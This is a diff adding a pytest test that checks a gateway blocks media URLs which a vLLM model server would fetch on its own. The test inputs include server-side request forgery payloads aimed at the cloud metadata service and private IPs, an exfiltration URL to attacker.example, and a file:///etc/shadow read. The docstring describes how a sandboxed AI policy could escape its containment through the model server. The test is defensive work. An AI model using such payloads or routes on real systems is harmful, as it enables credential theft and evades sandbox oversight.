@@ -147,3 +147,33 @@ def test_a_tool_call_the_model_wrote_cannot_crash_the_model_server() -> None:
     content, calls = parse_tool_calls(text)
     assert calls == [] and content == text
     json.dumps({"content": content, "tool_calls": calls}, ensure_ascii=False).encode()
+
+
+def _part(kind: str, url: str) -> dict[str, Any]:
+    return {"role": "user", "content": [{"type": "text", "text": "see"},
+                                        {"type": kind, kind: {"url": url}}]}  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    "message",
+    [_part("image_url", "http://169.254.169.254/latest/meta-data"),
+     _part("image_url", "https://attacker.example/?secret=the-answer"),
+     _part("video_url", "http://10.0.0.7/v.mp4"), _part("audio_url", "file:///etc/shadow"),
+     {"role": "user", "content": [{"type": "image_url", "image_url": "http://x/y.png"}]},
+     {"role": "user", "content": [{"type": "image_embeds", "image_embeds": "AAAA"}]}],
+    ids=["metadata", "exfiltrate", "video", "file", "bare_url", "embeds"],
+)  # fmt: skip
+async def test_content_the_upstream_would_fetch_is_refused(
+    upstream: FakeUpstream, message: dict[str, Any]
+) -> None:
+    """vLLM fetches a message's media URLs itself: from a sandbox with no route out, a
+    policy would reach the metadata service or a private network, or send its workspace
+    anywhere, through the model server. Only text and `data:` media go upstream."""
+    before = len(upstream.hits)
+    reply, session = await through_gateway(f"{upstream.url}/ok", "fake", {"messages": [message]})
+    assert reply.status_code == 400, reply.text
+    assert reply.json()["error"]["param"] == "messages"
+    assert session.fault is None and len(upstream.hits) == before
+    inline = _part("image_url", "data:image/png;base64,iVBORw0KGgo=")
+    reply, _ = await through_gateway(f"{upstream.url}/ok", "fake", {"messages": [inline]})
+    assert reply.status_code == 200, reply.text
